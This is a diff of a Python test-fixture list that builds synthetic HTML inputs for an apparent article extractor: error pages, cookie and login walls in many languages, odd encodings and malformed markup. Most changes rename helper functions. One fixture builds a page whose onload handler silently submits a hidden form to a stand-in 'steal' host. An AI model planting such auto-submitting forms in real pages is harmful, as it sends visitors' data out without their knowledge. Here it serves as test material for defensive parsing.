+    Kind("a page that is not there, in Polish", "a.html", lambda s: notice("Nie znaleziono strony", "Strona, której szukasz, nie istnieje lub została przeniesiona. Sprawdź adres."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Chinese", "a.html", lambda s: notice("404 页面不存在", "您访问的页面不存在或已被删除，请检查网址或返回首页。"), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in Dutch", "a.html", lambda s: notice("Uw privacy", "Wij en onze partners gebruiken cookies om informatie op uw apparaat op te slaan.", "Alles accepteren", "Weigeren"), 0, NOT_AN_ARTICLE),
+    Kind("a page to log in, in Japanese", "a.html", lambda s: notice("ログイン", "この記事を読むにはログインしてください。", "メールアドレス", "パスワード"), 0, NOT_AN_ARTICLE),
+    Kind("a check for robots, in Russian", "a.html", lambda s: notice("Подтвердите, что вы не робот", "Мы заметили подозрительный трафик из вашей сети. Введите символы с картинки, чтобы продолжить."), 0, NOT_AN_ARTICLE),
     Kind("letter of Outlook saved as a page", "a.htm", lambda s: '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>Rain</title><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body>' + "".join(f"<p class=MsoNormal>{line}<o:p></o:p></p>" for line in (f"Rain in {s.mark}", *s.long().split("\n\n"))) + "</body></html>", 1),
     Kind("live blog in a list", "a.html", lambda s: f"<html><head><title>Live: rain in {s.mark}</title></head><body><main><h1>Live: rain in {s.mark}</h1><ol>" + "".join(f"<li><time>10:0{n}</time><p>{s.text(n)}</p></li>" for n in range(1, 6)) + "</ol></main></body></html>", 1),
     Kind("obituary as a page", "a.html", lambda s: f"<html><head><title>Ana Roe, 1931-2026</title></head><body><h1>Ana Roe, 1931-2026</h1><p>Ana Roe, who kept the records of {s.mark} for forty years, died on Sunday. She was 94.</p><p>She is survived by two sons, Tom and Jo. You may send flowers to the town hall.</p></body></html>", 1),
     Kind("page within a page", "a.html", lambda s: f"<html><head><title>Rain</title></head><body><div class='copy'>{s.page()}</div></body></html>", 1),
     Kind("5 MB of data above a story", "a.html", lambda s: s.page(head=f"<script>window.DATA = {json.dumps(['rain'] * 600_000)}</script>"), 1),
     Kind("a wall in front of the whole story", "a.html", lambda s: s.page(after="<div class='overlay' role='dialog'><h2>Subscribe to read</h2><p>Already a subscriber? Log in.</p></div>"), 1),
-    Kind("a page that is not there, in Czech", "a.html", lambda s: wall("Stránka nenalezena", "Omlouváme se, ale hledaná stránka neexistuje nebo byla přesunuta jinam."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Thai", "a.html", lambda s: wall("ไม่พบหน้า", "ขออภัย ไม่พบหน้าที่คุณต้องการ กรุณาตรวจสอบที่อยู่แล้วลองใหม่อีกครั้ง"), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in Japanese", "a.html", lambda s: wall("プライバシーについて", "当サイトではクッキーを使用しています。続けるには同意してください。", "同意する", "拒否する"), 0, NOT_AN_ARTICLE),
-    Kind("a letter that must be confirmed", "a.html", lambda s: wall("Confirm your e-mail", "We have sent a message to your address. Click the link in it to finish your registration."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Czech", "a.html", lambda s: notice("Stránka nenalezena", "Omlouváme se, ale hledaná stránka neexistuje nebo byla přesunuta jinam."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Thai", "a.html", lambda s: notice("ไม่พบหน้า", "ขออภัย ไม่พบหน้าที่คุณต้องการ กรุณาตรวจสอบที่อยู่แล้วลองใหม่อีกครั้ง"), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in Japanese", "a.html", lambda s: notice("プライバシーについて", "当サイトではクッキーを使用しています。続けるには同意してください。", "同意する", "拒否する"), 0, NOT_AN_ARTICLE),
+    Kind("a letter that must be confirmed", "a.html", lambda s: notice("Confirm your e-mail", "We have sent a message to your address. Click the link in it to finish your registration."), 0, NOT_AN_ARTICLE),
     Kind("story that is folded", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><h1>Rain in {s.mark}</h1><details><summary>Read the story</summary>{paragraphs(s)}</details></body></html>", 1),
     Kind("advertisements in frames between paragraphs", "a.html", lambda s: s.page().replace("</p>", "</p><div class='ad'><iframe src='about:blank'>Advertisement</iframe></div>"), 1),
     Kind("page that calls itself again and has a story", "a.html", lambda s: s.page(head="<meta http-equiv='refresh' content='300'>"), 1),
     Kind("Chinese page in GB 2312 that says so", "a.html", lambda s: f"<html><head><meta http-equiv='Content-Type' content='text/html; charset=gb2312'><title>下雨</title></head><body><h1>{s.mark}镇下雨</h1><p>{CHINESE.format(s.mark)}</p><p>{CHINESE.format(s.mark)[:-1]}，议员们都回家了。</p></body></html>".encode("gb2312"), 1),
-    Kind("a code that was sent", "a.html", lambda s: wall("Check your phone", "Enter the code that we sent to your phone. It is good for ten minutes."), 0, NOT_AN_ARTICLE),
-    Kind("a reader who shows no advertisements", "a.html", lambda s: wall("Ad blocker detected", "We noticed that you use an ad blocker. Please allow advertisements on our site to go on reading."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not shown in a country", "a.html", lambda s: wall("Not available", "This content is not available in your region. We are sorry for the trouble."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Vietnamese", "a.html", lambda s: wall("Không tìm thấy trang", "Trang bạn yêu cầu không tồn tại hoặc đã bị xóa. Vui lòng kiểm tra lại địa chỉ."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Persian", "a.html", lambda s: wall("صفحه یافت نشد", "صفحه ای که به دنبال آن هستید وجود ندارد یا حذف شده است. لطفا نشانی را بررسی کنید."), 0, NOT_AN_ARTICLE),
+    Kind("a code that was sent", "a.html", lambda s: notice("Check your phone", "Enter the code that we sent to your phone. It is good for ten minutes."), 0, NOT_AN_ARTICLE),
+    Kind("a reader who shows no advertisements", "a.html", lambda s: notice("Ad blocker detected", "We noticed that you use an ad blocker. Please allow advertisements on our site to go on reading."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not shown in a country", "a.html", lambda s: notice("Not available", "This content is not available in your region. We are sorry for the trouble."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Vietnamese", "a.html", lambda s: notice("Không tìm thấy trang", "Trang bạn yêu cầu không tồn tại hoặc đã bị xóa. Vui lòng kiểm tra lại địa chỉ."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Persian", "a.html", lambda s: notice("صفحه یافت نشد", "صفحه ای که به دنبال آن هستید وجود ندارد یا حذف شده است. لطفا نشانی را بررسی کنید."), 0, NOT_AN_ARTICLE),
     Kind("story on blockers of advertisements", "a.html", lambda s: f"<html><head><title>Why sites ask you to turn off your ad blocker</title></head><body><article><h1>Why sites ask you to turn off your ad blocker</h1><p>By Ana Roe</p><p>“Please allow advertisements,” the site of {s.mark} says to its readers.</p>{paragraphs(s)}</article></body></html>", 1),
     Kind("2 MB of style", "a.html", lambda s: s.page(head="<style>" + ".rain{color:#06c}" * 120_000 + "</style>"), 1),
     Kind("signs of tags in attributes", "a.html", lambda s: s.page().replace("<p>", "<p title='a > b' data-x=\"<p>\">"), 1),
@@ -764,8 +742,8 @@ KINDS = [
     Kind("page with two headlines of the first rank", "a.html", lambda s: s.page("<h1>Also in the news</h1>"), 1),
     Kind("page in capitals of tags with attributes without marks", "a.html", lambda s: f"<HTML><HEAD><TITLE>Rain in {s.mark}</TITLE></HEAD><BODY BGCOLOR=white><TABLE WIDTH=600><TR><TD><H1>Rain in {s.mark}</H1>{paragraphs(s).upper().replace('</P>', '')}</TD></TR></TABLE></BODY></HTML>".replace(s.mark.upper(), s.mark), 1),
     Kind("page whose story is in bold", "a.html", lambda s: s.page().replace("<p>", "<p><b>").replace("</p>", "</b></p>"), 1),
-    Kind("a page that asks to be put on a home screen", "a.html", lambda s: wall("Install our app", "Please add this site to your home screen and open it from there to go on."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Hebrew", "a.html", lambda s: wall("הדף לא נמצא", "הדף שחיפשת אינו קיים או הועבר. אנא בדוק את הכתובת ונסה שוב."), 0, NOT_AN_ARTICLE),
+    Kind("a page that asks to be put on a home screen", "a.html", lambda s: notice("Install our app", "Please add this site to your home screen and open it from there to go on."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Hebrew", "a.html", lambda s: notice("הדף לא נמצא", "הדף שחיפשת אינו קיים או הועבר. אנא בדוק את הכתובת ונסה שוב."), 0, NOT_AN_ARTICLE),
     Kind("page and a feed in a file", "a.html", lambda s: s.page(n=4) + feed(s), 4),
     Kind("page and lines in a file", "a.html", lambda s: s.page(n=4) + "\n" + s.lines(), 4),
     Kind("style never closed", "a.html", lambda s: s.page(head="<style>p{color:red}"), 1),
@@ -779,23 +757,23 @@ KINDS = [
     Kind("figure never closed", "a.html", lambda s: s.page("<figure><img src=a.jpg><figcaption>Wet"), 1),
     Kind("warning of PHP above a page", "a.html", lambda s: "<br />\n<b>Warning</b>:  mysqli_connect(): (HY000/2002): Connection refused in <b>/var/www/l/db.php</b> on line <b>14</b><br />\n" + s.page(), 1),
     Kind("each word of a story in an element of its own", "a.html", lambda s: f"<!DOCTYPE html><html><head><title>Rain</title></head><body><article><h1>Rain</h1>{''.join('<p>' + ' '.join(f'<span class=w>{word}</span>' for word in part.split()) + '</p>' for part in s.long().split(chr(10) * 2))}</article></body></html>", 1),
-    Kind("PDF named as a page", "a.html", lambda s: b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + noise_2(4000) + b"\nstartxref\n9\n%%EOF\n", 0, ("form not known",)),
-    Kind("page for telephones", "a.html", lambda s: f'<!doctype html><html ⚡ lang="en"><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title><link rel="canonical" href="http://ledger.example/1"><style amp-boilerplate>body{{animation:none}}</style><script async src="https://cdn.example/v0.js"></script></head><body><amp-sidebar id="m" layout="nodisplay"><a href="/">Home</a></amp-sidebar><article><h1>Rain 1 in {s.mark}</h1><amp-img src="a.jpg" width="3" height="2"></amp-img>{paragraphs_2(s)}<amp-ad width="3" height="2" type="x"></amp-ad></article></body></html>', 1),
+    Kind("PDF named as a page", "a.html", lambda s: b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + random_bytes(4000) + b"\nstartxref\n9\n%%EOF\n", 0, ("form not known",)),
+    Kind("page for telephones", "a.html", lambda s: f'<!doctype html><html ⚡ lang="en"><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title><link rel="canonical" href="http://ledger.example/1"><style amp-boilerplate>body{{animation:none}}</style><script async src="https://cdn.example/v0.js"></script></head><body><amp-sidebar id="m" layout="nodisplay"><a href="/">Home</a></amp-sidebar><article><h1>Rain 1 in {s.mark}</h1><amp-img src="a.jpg" width="3" height="2"></amp-img>{paragraphs(s)}<amp-ad width="3" height="2" type="x"></amp-ad></article></body></html>', 1),
     Kind("page whose first letter is a box of its own", "a.html", lambda s: s.page().replace("<p>Rain", '<p><span class="dropcap">R</span>ain', 1), 1),
     Kind("page in which each letter is a reference", "a.html", lambda s: "<!DOCTYPE html><html><head><title>" + "".join(f"&#{ord(c)};" for c in f"Rain 1 in {s.mark}") + "</title></head><body><article>" + "".join("<p>" + "".join(f"&#x{ord(c):x};" for c in part) + "</p>" for part in s.long().split("\n\n")) + "</article></body></html>", 1),
     Kind("page with places where words may break", "a.html", lambda s: s.page().replace("council", "coun<wbr>cil").replace("drought", "drou<wbr/>ght"), 1),
     Kind("linked data whose kind is an address", "a.html", lambda s: s.page(head='<script type="application/ld+json">' + json.dumps({"@context": "https://schema.org/", "@type": ["https://schema.org/NewsArticle", "https://schema.org/Article"], "headline": f"Rain 1 in {s.mark}", "datePublished": "2026-03-01T10:00:00Z"}) + "</script>"), 1, fields={"published": "2026-03-01"}),
-    Kind("page that marks its parts with microdata alone", "a.html", lambda s: f'<!DOCTYPE html><html><head><title>Rain 1 in {s.mark}</title></head><body><div itemscope itemtype="https://schema.org/NewsArticle"><h1 itemprop="headline">Rain 1 in {s.mark}</h1><meta itemprop="datePublished" content="2026-03-01T10:00:00Z"><div itemprop="articleBody">{paragraphs_2(s)}</div></div></body></html>', 1, fields={"published": "2026-03-01"}),
+    Kind("page that marks its parts with microdata alone", "a.html", lambda s: f'<!DOCTYPE html><html><head><title>Rain 1 in {s.mark}</title></head><body><div itemscope itemtype="https://schema.org/NewsArticle"><h1 itemprop="headline">Rain 1 in {s.mark}</h1><meta itemprop="datePublished" content="2026-03-01T10:00:00Z"><div itemprop="articleBody">{paragraphs(s)}</div></div></body></html>', 1, fields={"published": "2026-03-01"}),
     Kind("page and a question about cookies in one file", "a.html", lambda s: s.page() + "\n" + COOKIES, 1, ("not an article",)),
     Kind("page without a word between two pages in one file", "a.html", lambda s: s.page(n=1) + "\n<!DOCTYPE html><html><head><title></title></head><body></body></html>\n" + s.page(n=3), 2, ("no body found",)),
     Kind("page named as a script of a server", "rain.php", lambda s: s.page(), 1),
     Kind("Korean page in EUC-KR that says so", "a.html", korean_page, 1),
     Kind("page whose story stands in elements of its own names", "a.html", own_elements, 1),
-    Kind("a page that an archive of the web does not have", "a.html", lambda s: wall_2("Wayback Machine", "Hrm.", "The Wayback Machine has not archived that URL.", "This page is not available on the web because page does not exist."), 0, ("not an article",)),
-    Kind("a warning before a large download", "a.html", lambda s: wall_2("Google Drive - Virus scan warning", "Google Drive can't scan this file for viruses", "rain.zip (184M) is too large for Google to scan for viruses. Would you still like to download this file?", "Download anyway"), 0, ("not an article",)),
-    Kind("a page that is not there, in Turkish", "a.html", lambda s: wall_2("Sayfa bulunamadı", "Aradığınız sayfa kaldırılmış veya adresi değiştirilmiş olabilir.", "Ana sayfaya dön"), 0, ("not an article",)),
-    Kind("a page to log in, in Norwegian", "a.html", lambda s: wall_2("Logg inn", "E-post", "Passord", "Glemt passord?", "Har du ikke konto? Registrer deg."), 0, ("not an article",)),
-    Kind("a question about cookies, in Polish", "a.html", lambda s: wall_2("Szanujemy Twoją prywatność", "My i nasi partnerzy przechowujemy informacje na urządzeniu, takie jak pliki cookie, i uzyskujemy do nich dostęp.", "Zaakceptuj wszystko", "Ustawienia zaawansowane"), 0, ("not an article",)),
+    Kind("a page that an archive of the web does not have", "a.html", lambda s: notice("Wayback Machine", "Hrm.", "The Wayback Machine has not archived that URL.", "This page is not available on the web because page does not exist."), 0, ("not an article",)),
+    Kind("a warning before a large download", "a.html", lambda s: notice("Google Drive - Virus scan warning", "Google Drive can't scan this file for viruses", "rain.zip (184M) is too large for Google to scan for viruses. Would you still like to download this file?", "Download anyway"), 0, ("not an article",)),
+    Kind("a page that is not there, in Turkish", "a.html", lambda s: notice("Sayfa bulunamadı", "Aradığınız sayfa kaldırılmış veya adresi değiştirilmiş olabilir.", "Ana sayfaya dön"), 0, ("not an article",)),
+    Kind("a page to log in, in Norwegian", "a.html", lambda s: notice("Logg inn", "E-post", "Passord", "Glemt passord?", "Har du ikke konto? Registrer deg."), 0, ("not an article",)),
+    Kind("a question about cookies, in Polish", "a.html", lambda s: notice("Szanujemy Twoją prywatność", "My i nasi partnerzy przechowujemy informacje na urządzeniu, takie jak pliki cookie, i uzyskujemy do nich dostęp.", "Zaakceptuj wszystko", "Ustawienia zaawansowane"), 0, ("not an article",)),
     Kind("table named as a page", "articles.html", lambda s: s.table(), 3),
     Kind("page of elements of its own", "a.html", lambda s: f"<!DOCTYPE html><html><head><title>Rain in {s.mark}</title></head><body><news-story><news-head>Rain in {s.mark}</news-head>" + "".join(f"<news-par>{p}</news-par>" for p in s.long().split("\n\n")) + "</news-story></body></html>", 1),
     Kind("MHTML with escapes that are none", "a.mhtml", lambda s: "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://l.example/rain\r\nSubject: Rain\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"----b\"\r\n\r\n------b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://l.example/rain\r\n\r\n" + story_page(s).replace("=", "=3D").replace("early", "early =ZZ =G1") + "\r\n------b--\r\n", 1),
@@ -810,16 +788,16 @@ KINDS = [
     Kind("print view whose paragraphs are parted by two breaks", "a.htm", print_view, 1),
     Kind("page whose story stands in a shadow root", "a.html", shadow, 1),
     Kind("page that Word saved as one file", "a.mht", word_page, 1),
-    Kind("a page that is not there, in Danish", "a.html", lambda s: wall_3("Siden blev ikke fundet", "Siden, du leder efter, findes ikke længere eller er blevet flyttet. Gå til forsiden."), 0, ("not an article",)),
-    Kind("a page that is not there, in Indonesian", "a.html", lambda s: wall_3("Halaman tidak ditemukan", "Halaman yang Anda cari tidak ada atau sudah dipindahkan. Kembali ke beranda."), 0, ("not an article",)),
-    Kind("a page to log in, in Italian", "a.html", lambda s: wall_3("Accedi - La Gazzetta di Collina", "Indirizzo e-mail", "Password", "Hai dimenticato la password?", "Non hai un account? Registrati."), 0, ("not an article",)),
-    Kind("a check for robots, in Portuguese", "a.html", lambda s: wall_3("Verificação de segurança", "Confirme que você não é um robô para continuar.", "Estamos verificando o seu navegador antes de acessar l.example."), 0, ("not an article",)),
-    Kind("a question about cookies, in Swedish", "a.html", lambda s: wall_3("Vi använder cookies", "Vi och våra partner använder cookies för att lagra och läsa information på din enhet.", "Godkänn alla", "Avvisa alla", "Inställningar"), 0, ("not an article",)),
+    Kind("a page that is not there, in Danish", "a.html", lambda s: notice("Siden blev ikke fundet", "Siden, du leder efter, findes ikke længere eller er blevet flyttet. Gå til forsiden."), 0, ("not an article",)),
+    Kind("a page that is not there, in Indonesian", "a.html", lambda s: notice("Halaman tidak ditemukan", "Halaman yang Anda cari tidak ada atau sudah dipindahkan. Kembali ke beranda."), 0, ("not an article",)),
+    Kind("a page to log in, in Italian", "a.html", lambda s: notice("Accedi - La Gazzetta di Collina", "Indirizzo e-mail", "Password", "Hai dimenticato la password?", "Non hai un account? Registrati."), 0, ("not an article",)),
+    Kind("a check for robots, in Portuguese", "a.html", lambda s: notice("Verificação de segurança", "Confirme que você não é um robô para continuar.", "Estamos verificando o seu navegador antes de acessar l.example."), 0, ("not an article",)),
+    Kind("a question about cookies, in Swedish", "a.html", lambda s: notice("Vi använder cookies", "Vi och våra partner använder cookies för att lagra och läsa information på din enhet.", "Godkänn alla", "Avvisa alla", "Inställningar"), 0, ("not an article",)),
     Kind("a page that Tomcat does not find", "a.html", lambda s: TOMCAT, 0, ("not an article",)),
     Kind("an error of a program of ASP.NET", "a.html", lambda s: ASPNET, 0, ("not an article",)),
     Kind("a site without its database", "a.html", lambda s: DATABASE, 0, ("no story",)),
-    Kind("a page that the filter of an office blocked", "a.html", lambda s: wall_3("Web Page Blocked", "The page you have requested has been blocked, because the URL is banned.", "URL: https://ledger.example/rain", "Category: News and Media", "Client IP: 192.0.2.7"), 0, ("not an article",)),
-    Kind("a page to log in to the network of a hotel", "a.html", lambda s: wall_3("Guest Wi-Fi Login", "Enter your room number and last name to connect.", "Room number", "Last name", "Connect"), 0, ("no story",)),
+    Kind("a page that the filter of an office blocked", "a.html", lambda s: notice("Web Page Blocked", "The page you have requested has been blocked, because the URL is banned.", "URL: https://ledger.example/rain", "Category: News and Media", "Client IP: 192.0.2.7"), 0, ("not an article",)),
+    Kind("a page to log in to the network of a hotel", "a.html", lambda s: notice("Guest Wi-Fi Login", "Enter your room number and last name to connect.", "Room number", "Last name", "Connect"), 0, ("no story",)),
     Kind("post that Medium hands out", "2026-03-01_Rain-1.html", medium, 1),
     Kind("note that Evernote hands out as a page", "Rain.html", evernote, 1),
     Kind("page that Internet Explorer 8 saved", "rain.htm", explorer, 1),
@@ -834,14 +812,14 @@ KINDS = [
     Kind("page as an archive of today keeps it, in boxes with styles", "a.html", archived_today, 1),
     Kind("page that an add-on saved with labels of its own", "a.html", lambda s: s.page(head=WE), 1),
     Kind("MHTML of one part", "a.mht", mht_of_one, 1),
-    Kind("Thai page in TIS-620 that says so", "a.html", lambda s: said(s, "tis-620", THAI_2, "ฝนตกหนักในเมืองเมื่อวันจันทร์ และสภาเมืองกลับบ้านก่อนเวลา"), 1, fields={"headline": THAI_2}),
+    Kind("Thai page in TIS-620 that says so", "a.html", lambda s: said(s, "tis-620", THAI_HEADLINE, "ฝนตกหนักในเมืองเมื่อวันจันทร์ และสภาเมืองกลับบ้านก่อนเวลา"), 1, fields={"headline": THAI_HEADLINE}),
     Kind("Brazilian page with its time of publication", "a.html", brazil, 1, fields=DAY),
     Kind("page that sends a form as soon as it is opened", "a.html", lambda s: s.page().replace("<body>", '<body onload="document.forms[0].submit()"><form action="http://x.example/steal" method="post"><input type="hidden" name="a" value="1"></form>'), 1),
-    Kind("a page that is not there or was moved, in Finnish", "a.html", lambda s: notice_2("Sivua ei löytynyt", "Etsimääsi sivua ei ole olemassa tai se on siirretty. Palaa etusivulle."), 0, ("not an article",)),
+    Kind("a page that is not there or was moved, in Finnish", "a.html", lambda s: notice("Sivua ei löytynyt", "Etsimääsi sivua ei ole olemassa tai se on siirretty. Palaa etusivulle."), 0, ("not an article",)),
     Kind("a cache that gets no answer from its server", "a.html", lambda s: '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html>\n<html><head><title>503 Backend fetch failed</title></head><body><h1>Error 503 Backend fetch failed</h1><p>Backend fetch failed</p><h3>Guru Meditation:</h3><p>XID: 32770</p><hr><p>Varnish cache server</p></body></html>', 0, ("no story",)),
     Kind("a network of copies that refuses a request", "a.html", lambda s: '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd"><HTML><HEAD><TITLE>ERROR: The request could not be satisfied</TITLE></HEAD><BODY><H1>403 ERROR</H1><H2>The request could not be satisfied.</H2><HR noshade size="1px">Request blocked. We can\'t connect to the server for this app or website at this time. There might be too much traffic or a configuration error. Try again later, or contact the app or website owner.<BR clear="all"><PRE>Generated by cloudfront (CloudFront)\nRequest ID: ab</PRE></BODY></HTML>', 0, ("not an article",)),
-    Kind("a button to press and hold", "a.html", lambda s: notice_2("Access to this page has been denied.", "Press &amp; Hold to confirm you are a human (and not a bot).", "Reference ID ab-1"), 0, ("not an article",)),
-    Kind("a search engine that asks before one goes on", "a.html", lambda s: notice_2("Before you continue", "We use cookies and data to deliver and maintain services, track outages and protect against spam, fraud and abuse.", "If you choose to accept all, we will also use cookies and data to develop and improve new services.", "Reject all", "Accept all"), 0, ("not an article",)),
+    Kind("a button to press and hold", "a.html", lambda s: notice("Access to this page has been denied.", "Press &amp; Hold to confirm you are a human (and not a bot).", "Reference ID ab-1"), 0, ("not an article",)),
+    Kind("a search engine that asks before one goes on", "a.html", lambda s: notice("Before you continue", "We use cookies and data to deliver and maintain services, track outages and protect against spam, fraud and abuse.", "If you choose to accept all, we will also use cookies and data to develop and improve new services.", "Reject all", "Accept all"), 0, ("not an article",)),
     Kind("picture named as a page", "a.html", lambda s: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x02\0\0\0\x02\0\x08\x02\0\0\0" + bytes((n * 91 + 13) % 256 for n in range(3000)), 0, ("form not known",)),
     Kind("page with pictures that are loaded late", "a.html", lazy, 1),
     Kind("page of a newsletter's host with boxes to subscribe in the story", "a.html", newsletter, 1),
